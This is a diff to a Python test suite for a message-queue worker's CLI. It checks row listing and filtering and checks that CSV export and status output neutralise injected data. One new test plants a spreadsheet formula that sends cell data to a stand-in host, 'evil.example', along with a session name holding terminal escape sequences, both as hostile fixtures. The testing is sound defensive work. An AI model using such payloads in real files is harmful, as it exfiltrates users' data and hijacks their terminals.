@@ -203,7 +203,11 @@ def test_failed_rows_are_listed_exported_and_retried_by_code(
 
     listed = run_worker(db_url, "rows", "--session", "failed-work")
     assert listed.returncode == 0, listed.stderr
-    assert sorted(line.split()[1] for line in listed.stdout.splitlines()) == sorted(phones[:4])
+    header, *lines = listed.stdout.splitlines()
+    assert header.split()[:6] == ["id", "phone", "client_id", "state", "tries", "code"]
+    assert sorted(line.split()[1] for line in lines) == sorted(phones[:4])
+    # aligned: each column starts where its title does
+    assert {line.index(line.split()[3]) for line in lines} == {header.index("state")}
     assert "4 row(s)" in listed.stderr
     exported = run_worker(db_url, "rows", "--session", "failed-work", "--code", "131026", "--csv")
     table = list(csv.DictReader(io.StringIO(exported.stdout)))
@@ -254,6 +258,37 @@ def test_prune_deletes_old_finished_rows_and_keeps_the_rest(sql: SQL, db_url: Da
     month_or_minute = run_worker(db_url, "prune", "--older-than", "1m", "--yes")
     assert month_or_minute.returncode == 2 and "ambiguous" in month_or_minute.stderr
     assert "1min for minutes" in month_or_minute.stderr
+
+
+def test_rows_finds_by_phone_and_client_and_data_never_runs_in_a_spreadsheet_or_a_terminal(
+    sql: SQL, db_url: DatabaseURL
+) -> None:
+    session = sql.add_session("Cobranza\x1b[2J\x1b]0;pwned\x07")  # a producer's name with escapes
+    phones = sql.add_rows(session, 3)
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    sql.execute(
+        "UPDATE cola_envios SET estado = 'error', last_error_code = 100, last_error = %s,"
+        " cliente_id = 7000 + id",
+        (hostile,),
+    )
+
+    exported = run_worker(db_url, "rows", "--session", str(session), "--csv")
+    table = list(csv.DictReader(io.StringIO(exported.stdout)))
+    assert {r["last_error"] for r in table if r["last_error"]} == {"'" + hostile}  # shown, never run
+    assert {r["telefono"] for r in table} == set(phones)  # a phone's + is a number, left as it is
+    assert all(r["updated_utc"] for r in table)
+
+    client = sql.value("SELECT cliente_id FROM cola_envios WHERE telefono = %s", (phones[1],))
+    by_client = run_worker(db_url, "rows", "--session", str(session), "--client-id", str(client))
+    assert [line.split()[1] for line in by_client.stdout.splitlines()[1:]] == [phones[1]]
+    by_phone = run_worker(db_url, "rows", "--session", str(session), "--phone", phones[2].lstrip("+"))
+    assert [line.split()[1] for line in by_phone.stdout.splitlines()[1:]] == [phones[2]]
+    assert run_worker(db_url, "rows", "--session", str(session), "--phone", "12").returncode == 2
+
+    shown = run_worker(db_url, "status", "--session", str(session))
+    assert shown.returncode == 0, shown.stderr
+    assert "\x1b" not in shown.stdout and "\x07" not in shown.stdout
+    assert "Cobranza\\x1b[2J" in shown.stdout  # the name is still recognisable
 
 
 def test_prune_asks_a_person_at_the_terminal_before_deleting(sql: SQL, db_url: DatabaseURL) -> None:
